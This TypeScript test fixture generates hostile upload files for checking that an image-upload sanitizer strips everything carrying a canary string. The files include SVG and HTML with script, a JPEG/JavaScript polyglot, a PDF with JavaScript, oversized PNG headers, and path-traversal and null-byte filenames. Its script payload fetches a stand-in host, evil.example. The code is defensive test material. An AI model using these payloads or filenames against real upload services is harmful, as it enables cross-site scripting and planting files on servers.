// A hundred files that somebody would rather not have on the server: scripts that call themselves pictures, pictures that carry
// scripts, places and archives, promises of enormous sizes, and pieces of files. Told from each other by a seed.
import { aJpeg, aPng, aWebp, exif, joined, jpegSegment, latin, pngChunk, webpChunk } from './pictures.ts'

export interface HostileFile {
  what: string
  fileName: string
  /** As the sender declares it. */
  type: string
  bytes: Uint8Array<ArrayBuffer>
}

/** Stands in every one of them and must be in nothing that is stored. */
export const CANARY = 'CANARINO-45.4642N-9.1900E'
const SCRIPT = `<script>fetch('//evil.example/${CANARY}')</script>`

type Make = (random: () => number) => Uint8Array

const size = (random: () => number) => 8 + Math.floor(random() * 400)
const bytesOf = (text: string) => Uint8Array.from(latin(text))
const MAKERS: [what: string, make: Make][] = [
  ['an SVG with a script', () => bytesOf(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${CANARY}')">${SCRIPT}</svg>`)],
  ['an SVG behind white space', () => bytesOf(`\n \t<?xml version="1.0"?><svg>${SCRIPT}</svg>`)],
  ['a page', () => bytesOf(`<!doctype html>${SCRIPT}`)],
  ['a GIF that is a script', () => bytesOf(`GIF89a=1;/*${CANARY}*/alert(1)`)],
  ['a PDF', () => bytesOf(`%PDF-1.7 /JS (app.alert('${CANARY}'))`)],
  ['a program', () => bytesOf(`MZ${CANARY}`)],
  ['a JPEG’s first bytes before a page', () => joined([[0xff, 0xd8, 0xff, 0xe0], latin(SCRIPT)])],
  ['a JPEG with a position', (random) => aJpeg(size(random), size(random), [exif(CANARY, 6)])],
  ['a JPEG with a script as its comment', (random) => aJpeg(size(random), 16, [jpegSegment(0xfe, latin(SCRIPT))])],
  ['a JPEG with an archive behind it', (random) => joined([aJpeg(size(random), 16), latin(`PK\x03\x04${CANARY}`)])],
  ['a JPEG with a second one behind it', () => joined([aJpeg(16, 16), aJpeg(16, 16, [exif(CANARY)])])],
  ['a JPEG that is a script: its first segment’s length is a comment’s start', () => polyglotJpeg()],
  ['a JPEG with a table that is too long', () => aJpeg(16, 16, [jpegSegment(0xdb, [0, ...Array(64).fill(1), ...latin(SCRIPT)])])],
  ['a JPEG with a profile of text', () => aJpeg(16, 16, [jpegSegment(0xe2, latin(`ICC_PROFILE\0${SCRIPT}`))])],
  ['a JPEG of 65535 × 65535', () => aJpegHeader(65_535)],
  ['a JPEG cut off', (random) => aJpeg(400, 400, [exif(CANARY)]).slice(0, -2 - Math.floor(random() * 600))],
  ['a PNG with a text', (random) => aPng(size(random), size(random), [pngChunk('tEXt', latin(`Comment\0${SCRIPT}`))])],
  ['a PNG with EXIF', (random) => aPng(size(random), 8, [pngChunk('eXIf', latin(CANARY))])],
  ['a PNG with a page behind it', (random) => joined([aPng(size(random), 8), latin(SCRIPT)])],
  ['a PNG with a chunk of its own', () => aPng(9, 9, [pngChunk('evIl', latin(SCRIPT))])],
  ['a PNG with an unknown critical chunk', () => aPng(9, 9, [pngChunk('EVIL', latin(SCRIPT))])],
  ['a PNG with its end before its picture', () => joined([aPng(9, 9).slice(0, 33), pngChunk('IEND', []), latin(CANARY)])],
  ['a PNG of 50000 × 50000', () => bombPng(50_000)],
  ['a PNG of 4294967295 pixels a side', () => bombPng(0xffffffff)],
  ['a PNG of no pixels', () => bombPng(0)],
  ['a PNG cut off', (random) => aPng(200, 200, [pngChunk('tEXt', latin(CANARY))]).slice(0, -1 - Math.floor(random() * 40))],
  ['a PNG with a wrong checksum', () => damaged(aPng(30, 30, [pngChunk('tEXt', latin(CANARY))]), 20)],
  ['a WebP with a position', () => aWebp([webpChunk('EXIF', latin(CANARY))])],
  ['a WebP with XMP', () => aWebp([webpChunk('XMP ', latin(`<x:xmpmeta>${SCRIPT}</x:xmpmeta>`))])],
  ['a WebP with a page behind it', () => joined([aWebp(), latin(SCRIPT)])],
  ['a WebP with a chunk of its own', () => aWebp([webpChunk('EVIL', latin(SCRIPT))])],
  ['a WebP that moves', () => aWebp([webpChunk('ANMF', latin(SCRIPT))])],
  ['a WebP cut off', (random) => aWebp([webpChunk('EXIF', latin(CANARY))]).slice(0, -2 - Math.floor(random() * 4000))],
  ['a RIFF that is a sound', () => joined([latin('RIFF'), [40, 0, 0, 0], latin(`WAVE${CANARY}`)])],
  ['nothing', () => new Uint8Array(0)],
  ['noise', (random) => Uint8Array.from({ length: 300 }, () => Math.floor(random() * 256))],
]

/** So many files are one of each kind. */
export const HOSTILE_KINDS = MAKERS.length

const NAMES = ['foto.jpg', 'foto.php.jpg', '../../pb_hooks/evil.pb.js', 'foto.svg', 'x.html', 'a"b\'c.png', 'foto.jpg%00.html']
const TYPES = ['image/jpeg', 'image/png', 'image/webp', 'image/svg+xml', 'text/html']

/** @param random 0 ≤ x < 1; what it gives decides sizes, names and declared types */
export function hostileFiles(count: number, random: () => number): HostileFile[] {
  const oneOf = (list: readonly string[]) => list[Math.floor(random() * list.length)] ?? ''
  return Array.from({ length: count }, (_, index) => {
    const [what, make] = MAKERS[index % MAKERS.length] ?? ['nothing', () => new Uint8Array(0)]
    return { what, fileName: oneOf(NAMES), type: oneOf(TYPES), bytes: joined([make(random)]) }
  })
}

/** As published by G. Heyes, 2016: the length of the first segment reads as the start of a comment in JavaScript. */
function polyglotJpeg(): Uint8Array {
  const comment = [...latin(`*/=alert('${CANARY}')/*`), ...Array(0x2f2a - 2 - 30).fill(0x20)]
  return aJpeg(16, 16, [joined([[0xff, 0xe0, 0x2f, 0x2a], comment.slice(0, 0x2f2a - 2)])])
}

function aJpegHeader(side: number): Uint8Array {
  const frame = [8, side >> 8, side & 0xff, side >> 8, side & 0xff, 1, 1, 0x11, 0]
  return joined([[0xff, 0xd8], jpegSegment(0xc0, frame), jpegSegment(0xda, [1, 1, 0, 0, 63, 0]), latin(CANARY), [0xff, 0xd9]])
}

function bombPng(side: number): Uint8Array {
  const small = aPng(2, 2, [pngChunk('tEXt', latin(CANARY))])
  const sides = [side >>> 24, (side >>> 16) & 0xff, (side >>> 8) & 0xff, side & 0xff]
  const header = pngChunk('IHDR', [...sides, ...sides, 8, 0, 0, 0, 0])
  return joined([small.slice(0, 8), header, small.slice(8 + header.length)])
}

/** One byte of the end's data is another. */
function damaged(bytes: Uint8Array, fromEnd: number): Uint8Array {
  return bytes.with(-fromEnd, (bytes.at(-fromEnd) ?? 0) ^ 0xff)
}
